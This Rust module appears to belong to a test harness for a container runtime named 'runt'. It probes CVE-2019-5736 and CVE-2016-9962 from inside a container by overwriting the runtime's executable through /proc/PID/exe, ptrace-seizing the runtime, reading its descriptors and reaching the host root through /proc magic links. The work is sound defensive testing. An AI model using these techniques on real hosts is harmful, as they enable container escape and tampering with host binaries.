//! The attacks on runt's own binary and processes from inside a container: CVE-2019-5736
//! (reopening the runtime's executable through /proc/PID/exe and overwriting it) and CVE-2016-9962
//! (ptrace of, or /proc/PID/fd access to, a runtime process that joined the container). The
//! commands and their log lines are listed in main.rs's header and docs/contract.md.

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::CStr;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::{AsRawFd, FromRawFd, RawFd};
use std::os::unix::fs::{FileExt, MetadataExt, OpenOptionsExt};
use std::os::unix::net::{UnixListener, UnixStream};
use std::path::Path;
use std::process::{Child, Command};
use std::time::{Duration, Instant};

use syscalls::{syscall, Sysno};

use super::{fail, os_error, say, strerror};

/// How long a stalker or hunter runs at most when nobody tells it to stop.
const LIFETIME: Duration = Duration::from_secs(300);

const O_PATH: i32 = 0o10000000;
const PTRACE_SEIZE: usize = 0x4206;
const PTRACE_DETACH: usize = 17;
const SIGCONT: usize = 18;
const SIGSTOP: usize = 19;

/// Event lines appended to `DIR/log`, each in one write, so that the host can read the log while
/// the command runs.
struct Log(File);

impl Log {
    fn open(dir: &str) -> io::Result<Log> {
        OpenOptions::new().create(true).append(true).open(Path::new(dir).join("log")).map(Log)
    }

    fn line(&mut self, text: &str) {
        let _ = self.0.write_all(format!("{text}\n").as_bytes());
    }
}

/// Whether the host asked the command to stop (or its lifetime is over).
fn stopping(dir: &str, started: Instant) -> bool {
    Path::new(dir).join("stop").exists() || started.elapsed() > LIFETIME
}

/// The pids in this pid namespace but ours and its init's.
fn others() -> Vec<u32> {
    let me = std::process::id();
    let Ok(dir) = fs::read_dir("/proc") else { return Vec::new() };
    dir.flatten().filter_map(|e| e.file_name().to_str()?.parse().ok()).filter(|&pid| pid != me && pid != 1).collect()
}

/// The process's name (/proc/PID/comm), or "" once it is gone.
fn comm(pid: u32) -> String {
    fs::read_to_string(format!("/proc/{pid}/comm")).map(|c| c.trim_end().to_string()).unwrap_or_default()
}

/// An O_PATH handle of /proc/PID/exe: what the kernel hands out to whoever may ptrace-read PID.
fn open_exe(pid: u32) -> io::Result<File> {
    OpenOptions::new().read(true).custom_flags(O_PATH).open(format!("/proc/{pid}/exe"))
}

/// What a descriptor points at, as /proc/self/fd shows it.
fn link_of(fd: RawFd) -> String {
    fs::read_link(format!("/proc/self/fd/{fd}")).map(|p| p.display().to_string()).unwrap_or_default()
}

/// A file identity: device and inode.
fn identity(file: &File) -> Option<(u64, u64)> {
    file.metadata().ok().map(|m| (m.dev(), m.ino()))
}

/// One executable the hunter holds on to.
struct Held {
    file: File,
    link: String,
    written: bool,
    last_refusal: String,
}

/// Reopens the held file for writing through /proc/self/fd and overwrites its first bytes.
fn try_write(h: &mut Held, log: &mut Log) -> bool {
    let path = format!("/proc/self/fd/{}", h.file.as_raw_fd());
    match OpenOptions::new().write(true).open(path).and_then(|f| f.write_at(b"PWNED", 0)) {
        Ok(_) => {
            log.line(&format!("wrote {}", h.link));
            h.written = true;
            true
        }
        Err(e) => {
            let why = strerror(&e);
            if why != h.last_refusal {
                log.line(&format!("refused {}: {why}", h.link));
                h.last_refusal = why;
            }
            false
        }
    }
}

/// `hunt DIR`: see the header of main.rs.
pub fn hunt(dir: &str) -> i32 {
    let started = Instant::now();
    let mut log = match Log::open(dir) {
        Ok(log) => log,
        Err(e) => return fail(e),
    };
    let listener = match UnixListener::bind(Path::new(dir).join("sock")).and_then(|l| {
        l.set_nonblocking(true)?;
        Ok(l)
    }) {
        Ok(l) => l,
        Err(e) => return fail(e),
    };
    let own = File::open("/proc/self/exe").ok().and_then(|f| identity(&f));
    let mut held: Vec<Held> = Vec::new();
    let hold = |file: File, who: String, held: &mut Vec<Held>, log: &mut Log| {
        let id = identity(&file);
        if id.is_none() || id == own || held.iter().any(|h| identity(&h.file) == id) {
            return;
        }
        let link = link_of(file.as_raw_fd());
        log.line(&format!("held {who} {link}"));
        held.push(Held { file, link, written: false, last_refusal: String::new() });
    };
    let (mut seen, mut opened, mut denied) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
    let mut wrote = 0;
    log.line("ready");
    while !stopping(dir, started) {
        while let Ok((stream, _)) = listener.accept() {
            for fd in receive_fds(&stream) {
                // SAFETY: the kernel just installed this descriptor for us; nothing else owns it.
                hold(unsafe { File::from_raw_fd(fd) }, "sent".into(), &mut held, &mut log);
            }
        }
        // A process is met anew each time it executes something else: its comm changes.
        for pid in others() {
            let who = format!("{pid} {}", comm(pid));
            if seen.insert(who.clone()) {
                log.line(&format!("seen {who}"));
            }
            if opened.contains(&who) {
                continue;
            }
            match open_exe(pid) {
                Ok(file) => {
                    hold(file, who.clone(), &mut held, &mut log);
                    opened.insert(who);
                }
                Err(e) => {
                    if !denied.contains(&who) {
                        log.line(&format!("denied {who} {}", strerror(&e)));
                        denied.insert(who);
                    }
                }
            }
        }
        for h in held.iter_mut().filter(|h| !h.written) {
            wrote += usize::from(try_write(h, &mut log));
        }
        std::thread::yield_now();
    }
    log.line(&format!("done seen={} held={} wrote={wrote}", seen.len(), held.len()));
    0
}

/// `roothunt DIR MARKER`: see the header of main.rs.
pub fn roothunt(dir: &str, marker: &str) -> i32 {
    let started = Instant::now();
    let mut log = match Log::open(dir) {
        Ok(log) => log,
        Err(e) => return fail(e),
    };
    let (mut seen, mut runts, mut reached) = (BTreeSet::new(), BTreeSet::new(), BTreeSet::new());
    log.line("ready");
    while !stopping(dir, started) {
        for pid in others() {
            let name = comm(pid);
            if seen.insert(format!("{pid} {name}")) {
                log.line(&format!("seen {pid} {name}"));
            }
            if name == "runt" {
                runts.insert(pid);
            }
            // The magic links lead wherever that process's root and working directory are: the
            // host's tree has the marker, the container's has not.
            for link in ["root", "cwd"] {
                let base = Path::new("/proc").join(pid.to_string()).join(link);
                if base.join(marker).exists() && reached.insert((pid, link)) {
                    let _ = File::create(base.join(format!("{marker}.escaped")));
                    log.line(&format!("reached {pid} {link}"));
                }
            }
        }
        std::thread::yield_now();
    }
    log.line(&format!("done seen={} runt={} reached={}", seen.len(), runts.len(), reached.len()));
    0
}

/// struct iovec.
#[repr(C)]
struct IoVec {
    base: *mut u8,
    len: usize,
}

/// struct msghdr.
#[repr(C)]
struct MsgHdr {
    name: *mut u8,
    namelen: u32,
    iov: *mut IoVec,
    iovlen: usize,
    control: *mut u8,
    controllen: usize,
    flags: i32,
}

impl MsgHdr {
    /// A message of one buffer and one control buffer, to no particular address.
    fn new(iov: &mut IoVec, control: &mut Control) -> MsgHdr {
        MsgHdr {
            name: std::ptr::null_mut(),
            namelen: 0,
            iov,
            iovlen: 1,
            control: control.0.as_mut_ptr(),
            controllen: control.0.len(),
            flags: 0,
        }
    }
}

/// A control buffer with room for one cmsghdr (len, level, type) and one descriptor, aligned as
/// the kernel wants it.
#[repr(C, align(8))]
struct Control([u8; 24]);

const SOL_SOCKET: i32 = 1;
const SCM_RIGHTS: i32 = 1;
/// CMSG_LEN(sizeof(int)): the header (16 bytes) and one int.
const CMSG_LEN_ONE_FD: usize = 20;

/// Sends `fd` over the connected unix socket `sock` with one byte of data.
fn send_fd(sock: &UnixStream, fd: RawFd) -> io::Result<()> {
    let mut byte = [b'x'];
    let mut iov = IoVec { base: byte.as_mut_ptr(), len: 1 };
    let mut control = Control([0; 24]);
    control.0[..8].copy_from_slice(&(CMSG_LEN_ONE_FD as u64).to_ne_bytes());
    control.0[8..12].copy_from_slice(&SOL_SOCKET.to_ne_bytes());
    control.0[12..16].copy_from_slice(&SCM_RIGHTS.to_ne_bytes());
    control.0[16..20].copy_from_slice(&fd.to_ne_bytes());
    let msg = MsgHdr::new(&mut iov, &mut control);
    // SAFETY: msg points at a valid iovec and control buffer for the duration of the call.
    unsafe { syscall!(Sysno::sendmsg, sock.as_raw_fd(), &msg as *const MsgHdr, 0) }.map(drop).map_err(os_error)
}

/// The descriptors sent with the first message on `sock` (at most one per message here).
fn receive_fds(sock: &UnixStream) -> Vec<RawFd> {
    let _ = sock.set_read_timeout(Some(Duration::from_secs(1)));
    receive(sock, &mut [0u8]).1
}

/// The first message on `sock`: the bytes of it read into `data`, and the descriptor sent with
/// them (at most one here; none on a failure).
pub(crate) fn receive(sock: &UnixStream, data: &mut [u8]) -> (usize, Vec<RawFd>) {
    let _ = sock.set_nonblocking(false);
    let mut iov = IoVec { base: data.as_mut_ptr(), len: data.len() };
    let mut control = Control([0; 24]);
    let mut msg = MsgHdr::new(&mut iov, &mut control);
    const MSG_CMSG_CLOEXEC: usize = 0x4000_0000;
    // SAFETY: msg points at a writable iovec and control buffer for the duration of the call.
    let got = unsafe { syscall!(Sysno::recvmsg, sock.as_raw_fd(), &mut msg as *mut MsgHdr, MSG_CMSG_CLOEXEC) };
    let header_ok = |c: &[u8]| {
        u64::from_ne_bytes(c[..8].try_into().unwrap_or_default()) as usize == CMSG_LEN_ONE_FD
            && i32::from_ne_bytes(c[8..12].try_into().unwrap_or_default()) == SOL_SOCKET
            && i32::from_ne_bytes(c[12..16].try_into().unwrap_or_default()) == SCM_RIGHTS
    };
    match got {
        Ok(n) if msg.controllen >= CMSG_LEN_ONE_FD && header_ok(&control.0) => {
            (n, vec![i32::from_ne_bytes(control.0[16..20].try_into().unwrap_or_default())])
        }
        Ok(n) => (n, Vec::new()),
        Err(_) => (0, Vec::new()),
    }
}

/// `send-exe PID SOCKET`.
pub fn send_exe(pid: u32, socket: &str) -> i32 {
    let sent = open_exe(pid).and_then(|exe| send_fd(&UnixStream::connect(socket)?, exe.as_raw_fd()));
    match sent {
        Ok(()) => say("ok"),
        Err(e) => fail(e),
    }
}

/// kill(2).
fn signal(pid: u32, sig: usize) -> io::Result<()> {
    // SAFETY: kill takes no memory.
    unsafe { syscall!(Sysno::kill, pid, sig) }.map(drop).map_err(os_error)
}

/// ptrace(2) with no data.
fn ptrace(request: usize, pid: u32) -> io::Result<()> {
    // SAFETY: SEIZE and DETACH with zero addr and data read or write no memory of ours.
    unsafe { syscall!(Sysno::ptrace, request, pid, 0, 0) }.map(drop).map_err(os_error)
}

/// The state letter of /proc/PID/stat (after the parenthesised comm), None once it is gone.
fn state(pid: u32) -> Option<char> {
    let stat = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    stat.rsplit_once(") ")?.1.chars().next()
}

/// Waits (up to 2 s) until `pid` is stopped; false if it is gone, a zombie, or does not stop.
fn wait_stopped(pid: u32) -> bool {
    let deadline = Instant::now() + Duration::from_secs(2);
    while Instant::now() < deadline {
        match state(pid) {
            Some('T' | 't') => return true,
            None | Some('Z' | 'X') => return false,
            Some(_) => std::thread::sleep(Duration::from_micros(20)),
        }
    }
    false
}

/// The stalker's tally: how often each kind of attempt was refused, and why.
#[derive(Default)]
struct Tally {
    observed: usize,
    attempts: usize,
    succeeded: usize,
    refusals: BTreeMap<String, usize>,
}

impl Tally {
    fn refused(&mut self, what: &str, e: &io::Error) {
        *self.refusals.entry(format!("{what}: {}", strerror(e))).or_default() += 1;
    }
}

/// `stalk DIR`: see the header of main.rs.
pub fn stalk(dir: &str) -> i32 {
    let started = Instant::now();
    let mut log = match Log::open(dir) {
        Ok(log) => log,
        Err(e) => return fail(e),
    };
    let mut done = BTreeSet::new();
    let mut tally = Tally::default();
    log.line("ready");
    while !stopping(dir, started) {
        for pid in others() {
            if done.insert(pid) {
                follow(pid, &mut log, &mut tally);
            }
        }
        std::thread::yield_now();
    }
    let refused: usize = tally.refusals.values().sum();
    log.line(&format!(
        "done observed={} attempts={} refused={refused} succeeded={}",
        tally.observed, tally.attempts, tally.succeeded
    ));
    for (what, n) in &tally.refusals {
        log.line(&format!("refusal {what} x{n}"));
    }
    0
}

/// Steps `pid` forward, stopped between steps, trying to reach it while it is runt. Successes are
/// logged once per process and counted every time.
fn follow(pid: u32, log: &mut Log, tally: &mut Tally) {
    let (mut caught, mut seized, mut read) = (false, false, false);
    while signal(pid, SIGSTOP).is_ok() {
        if !wait_stopped(pid) || comm(pid) != "runt" {
            break;
        }
        if !caught {
            caught = true;
            tally.observed += 1;
            log.line(&format!("observed {pid}"));
        }
        tally.attempts += 1;
        match ptrace(PTRACE_SEIZE, pid) {
            Ok(()) => {
                tally.succeeded += 1;
                if !seized {
                    seized = true;
                    log.line(&format!("seized {pid}"));
                }
                // The seized process was in a group stop, so it is in a ptrace stop now: detach
                // leaves it stopped for the SIGCONT below.
                let _ = ptrace(PTRACE_DETACH, pid);
            }
            Err(e) => tally.refused("seize", &e),
        }
        match fd_links(pid) {
            Ok(links) => {
                tally.succeeded += 1;
                if !read {
                    read = true;
                    log.line(&format!("fds {pid}: {}", links.join(" ")));
                }
            }
            Err(e) => tally.refused("fd", &e),
        }
        let _ = signal(pid, SIGCONT);
        std::thread::sleep(Duration::from_micros(100));
    }
    // Never leave a process stopped behind.
    let _ = signal(pid, SIGCONT);
}

/// What the descriptors of `pid` point at, read through /proc/PID/fd/N: the entries' names
/// alone are readable to the directory's owner, their targets only with ptrace access. An error
/// when not one target could be read (the first refusal), or the directory cannot be listed.
fn fd_links(pid: u32) -> io::Result<Vec<String>> {
    let mut links = Vec::new();
    let mut refusal = None;
    for entry in fs::read_dir(format!("/proc/{pid}/fd"))?.flatten() {
        match fs::read_link(entry.path()) {
            Ok(target) => links.push(target.display().to_string()),
            Err(e) => refusal = refusal.or(Some(e)),
        }
    }
    match (links.is_empty(), refusal) {
        (true, Some(e)) => Err(e),
        _ => Ok(links),
    }
}

/// `reach PID`: the three ways into another process, one line each.
pub fn reach(pid: u32) -> i32 {
    let line = |what: &str, r: io::Result<String>| match r {
        Ok(extra) => println!("{what}: ok{extra}"),
        Err(e) => println!("{what}: error: {}", strerror(&e)),
    };
    line("seize", ptrace(PTRACE_SEIZE, pid).map(|()| String::new()));
    line("fd", fd_links(pid).map(|links| format!(" {}", links.len())));
    line("exe", open_exe(pid).map(|_| String::new()));
    0
}

/// `reach child`: the control, against a process of our own.
pub fn reach_child() -> i32 {
    let exe = std::env::current_exe().unwrap_or_else(|_| "/proc/self/exe".into());
    let mut child: Child = match Command::new(exe).args(["sleep", "5"]).spawn() {
        Ok(child) => child,
        Err(e) => return fail(e),
    };
    let code = reach(child.id());
    let _ = child.kill();
    // A traced child reports its stops to wait too: wait until it is really gone.
    while let Ok(status) = child.wait() {
        if std::os::unix::process::ExitStatusExt::stopped_signal(&status).is_none() {
            break;
        }
    }
    code
}

/// `console SOCKET`: the engine's end of `--console-socket`, run on the host.
pub fn console(socket: &str) -> i32 {
    let listener = match UnixListener::bind(socket) {
        Ok(l) => l,
        Err(e) => return fail(e),
    };
    let received = listener.accept().map(|(stream, _)| receive_fds(&stream));
    let Some(&fd) = received.as_ref().ok().and_then(|fds| fds.first()) else {
        return fail(received.err().unwrap_or_else(|| io::Error::from(io::ErrorKind::InvalidData)));
    };
    println!("fd {}", link_of(fd));
    // SAFETY: the kernel just installed this descriptor for us; nothing else owns it.
    let mut master = unsafe { File::from_raw_fd(fd) };
    // Whatever the terminal shows, until its last writer is gone (EIO) or 10 s have passed.
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut buf = [0u8; 4096];
    while Instant::now() < deadline {
        match io::Read::read(&mut master, &mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => {
                let _ = io::stdout().write_all(&buf[..n]);
            }
        }
    }
    0
}

/// `seals PATH`.
pub fn seals(path: &str) -> i32 {
    const F_GET_SEALS: usize = 1034;
    const NAMES: [&str; 6] = ["seal", "shrink", "grow", "write", "future-write", "exec"];
    let file = match File::open(path) {
        Ok(f) => f,
        Err(e) => return fail(e),
    };
    // SAFETY: F_GET_SEALS takes no argument and writes no memory.
    match unsafe { syscall!(Sysno::fcntl, file.as_raw_fd(), F_GET_SEALS) } {
        Ok(bits) => {
            let set: Vec<&str> =
                NAMES.iter().enumerate().filter(|(i, _)| bits & (1 << i) != 0).map(|(_, n)| *n).collect();
            say(format!("seals: {}", set.join(" ")))
        }
        Err(e) => fail(os_error(e)),
    }
}

/// `swap DIR A B`: exchanges the names A and B in DIR until told to stop; see main.rs.
pub fn swap(dir: &str, a: &CStr, b: &CStr) -> i32 {
    const RENAME_EXCHANGE: usize = 2;
    let d = match File::open(dir) {
        Ok(d) => d,
        Err(e) => return fail(e),
    };
    let exchange = || {
        // SAFETY: both names are NUL-terminated and outlive the call.
        unsafe { syscall!(Sysno::renameat2, d.as_raw_fd(), a.as_ptr(), d.as_raw_fd(), b.as_ptr(), RENAME_EXCHANGE) }
            .is_ok()
    };
    let (started, mut swaps) = (Instant::now(), 0u64);
    while !stopping(dir, started) {
        swaps += (0..256).filter(|_| exchange()).count() as u64;
    }
    if swaps % 2 == 1 && exchange() {
        swaps += 1;
    }
    say(format!("swaps {swaps}"))
}
